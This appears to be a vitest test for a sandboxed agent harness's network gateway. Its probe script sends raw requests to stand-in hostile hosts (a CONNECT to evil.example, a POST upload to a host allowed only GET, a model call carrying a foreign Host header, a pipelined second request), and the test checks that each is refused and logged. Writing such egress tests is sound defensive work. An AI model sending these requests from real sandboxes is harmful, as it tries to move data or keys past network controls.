/**
 * What a hostile harness sends through its one door, from inside a real local sandbox (its own network namespace,
 * the forwarder, the run's gateway; policy allowlist): a CONNECT to a host the allowlist does not name, a method a
 * GET-only rule does not allow, an absolute-form URL to another host, a model call with a foreign Host header, and a
 * refused request pipelined behind a good one. Each is refused, recorded in the ledger with its rule, and counted in
 * the turn's result; only the good model call reaches the vendor, with the real key.
 */
import { chmodSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { anthropicMessages } from '../e2e/fake-vendor/anthropic-messages.js';
import { startFakeVendor, type FakeVendor } from '../e2e/fake-vendor/server.js';
import { openDoorSession } from '../support/door-session.js';

const dir = mkdtempSync(path.join(os.tmpdir(), 'dh-gw-hostile-'));
chmodSync(dir, 0o711);
const secret = `sk-gw-hostile-${Math.random().toString(36).slice(2)}`;
/** Raw requests on the sandbox's door; it reports each one's status lines, in order, as its result. */
const probe = path.join(dir, 'probe.mjs');
writeFileSync(
  probe,
  `import net from 'node:net';
import { createInterface } from 'node:readline';
for await (const line of createInterface({ input: process.stdin })) { if (line.trim()) break; }
const proxy = new URL(process.env.HTTPS_PROXY);
const door = { host: '127.0.0.1', port: Number(proxy.port) };
const auth = 'Proxy-Authorization: Basic ' + Buffer.from('dh:' + decodeURIComponent(proxy.password)).toString('base64') + '\\r\\n';
const key = process.env.DURABLE_HARNESS_API_KEY;
const body = JSON.stringify({ model: 'claude-x', max_tokens: 5, messages: [{ role: 'user', content: 'hi' }] });
const model = (host) => 'POST /v1/messages HTTP/1.1\\r\\nHost: ' + host + '\\r\\nx-api-key: ' + key + '\\r\\nanthropic-version: 2023-06-01\\r\\ncontent-type: application/json\\r\\ncontent-length: ' + Buffer.byteLength(body) + '\\r\\n\\r\\n' + body;
const send = (bytes) => new Promise((resolve) => {
  const s = net.connect(door);
  let got = '';
  s.on('data', (d) => { got += d; });
  s.on('error', () => undefined);
  s.on('close', () => resolve((got.match(/HTTP\\/1\\.1 \\d{3}/g) ?? []).map((l) => l.slice(9)).join('+') || 'none'));
  s.write(bytes);
  setTimeout(() => s.end(), 1500);
});
const seen = {
  connect: await send('CONNECT evil.example:443 HTTP/1.1\\r\\nHost: evil.example:443\\r\\n' + auth + '\\r\\n'),
  method: await send('POST http://mirror.test:80/upload HTTP/1.1\\r\\nHost: mirror.test\\r\\n' + auth + 'content-length: 0\\r\\n\\r\\n'),
  absolute: await send('GET http://127.0.0.1:7233/ HTTP/1.1\\r\\nHost: 127.0.0.1:7233\\r\\n' + auth + '\\r\\n'),
  hostHeader: await send(model('api.evil.example')),
  pipelined: await send(model('127.0.0.1:' + door.port) + 'GET http://evil.example/ HTTP/1.1\\r\\nHost: evil.example\\r\\n' + auth + '\\r\\n'),
};
process.stdout.write(JSON.stringify({ type: 'complete', text: JSON.stringify({ step: 'success', result: JSON.stringify(seen) }) }) + '\\n', () => process.exit(0));
`,
);
let vendor: FakeVendor;

beforeAll(async () => {
  vendor = await startFakeVendor({ handlers: { '/v1/messages': anthropicMessages }, fallback: () => ({ text: 'ok', usage: { input: 10, output: 1 } }) });
});
afterAll(async () => {
  await vendor?.close();
  rmSync(dir, { recursive: true, force: true });
});

describe('a hostile harness at its door (local sandbox, policy allowlist)', () => {
  it('CONNECT off the allowlist, a disallowed method, another host, a foreign Host header and a pipelined second request are refused and recorded', { timeout: 60_000 }, async () => {
    const session = await openDoorSession({
      dir,
      workflowId: 'gw-hostile',
      script: probe,
      vendorUrl: vendor.url,
      secret,
      sandbox: { provider: 'local', networkPolicy: 'allowlist', allowlist: [{ host: 'mirror.test', port: 80, methods: ['GET', 'HEAD'] }] },
    });
    try {
      const result = await session.turn();
      expect(result.step.ok).toBe(true);
      const seen = JSON.parse((result.step as { view: { result: string } }).view.result) as Record<string, string>;
      expect(seen).toEqual({ connect: '403', method: '403', absolute: '403', hostHeader: '403', pipelined: '200+403' });

      const refused = await session.deps.ledger.listNetwork('gw-hostile', { refusedOnly: true });
      expect(refused.map((r) => [r.record.kind, r.record.destination, r.record.rule])).toEqual([
        ['connect', 'evil.example:443', 'refused:not-allowlisted'],
        ['http', 'mirror.test:80', 'refused:method'],
        ['http', '127.0.0.1:7233', 'refused:not-allowlisted'],
        ['model', expect.any(String), 'refused:host-header'],
        ['http', 'evil.example:80', 'refused:not-allowlisted'],
      ]);
      expect(result.networkRefused).toBe(5);
      // Only the good call of the pipelined pair reached the vendor, with the real key for the placeholder.
      expect(vendor.requests).toHaveLength(1);
      expect(vendor.requests[0]!.headers['x-api-key']).toBe(secret);
    } finally {
      await session.end();
    }
  });
});
